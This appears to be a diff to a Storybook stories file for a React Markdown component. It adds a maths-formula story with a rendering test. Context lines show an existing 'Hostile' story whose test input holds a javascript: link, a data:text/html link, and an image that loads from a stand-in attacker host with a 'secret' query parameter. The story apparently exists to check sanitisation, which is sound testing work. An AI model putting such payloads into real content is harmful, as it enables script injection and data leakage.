@@ -1,5 +1,8 @@
 import type { Meta, StoryObj } from "@storybook/react-vite";
+import { expect, waitFor } from "storybook/test";
+import { math } from "../math/math.js";
 import "../styles.css";
+import { ContentProvider } from "./content-options.js";
 import { Markdown } from "./markdown.js";
 
 const meta: Meta<typeof Markdown> = {
@@ -81,3 +84,30 @@ export const Hostile: Story = {
 [a script](javascript:alert(1)), [data](data:text/html,x), ![a pixel](https://evil.example/p.png?secret=1)`,
   },
 };
+
+/** Formulas, with the plug-in for maths. */
+export const Formulas: Story = {
+  decorators: [
+    (Story) => (
+      <ContentProvider content={withMath}>
+        <Story />
+      </ContentProvider>
+    ),
+  ],
+  args: {
+    text: `The mean of $n$ values is $\\bar{x} = \\frac{1}{n} \\sum_{i=1}^{n} x_i$, and their spread
+
+$$
+s = \\sqrt{\\frac{1}{n-1} \\sum_{i=1}^{n} (x_i - \\bar{x})^2}
+$$
+
+A ticket is $5, two are $10: those are none.`,
+  },
+  play: async ({ canvasElement }) => {
+    await waitFor(() => expect(canvasElement.querySelectorAll("math")).toHaveLength(3), {
+      timeout: 10_000,
+    });
+  },
+};
+
+const withMath = { plugins: [math] };
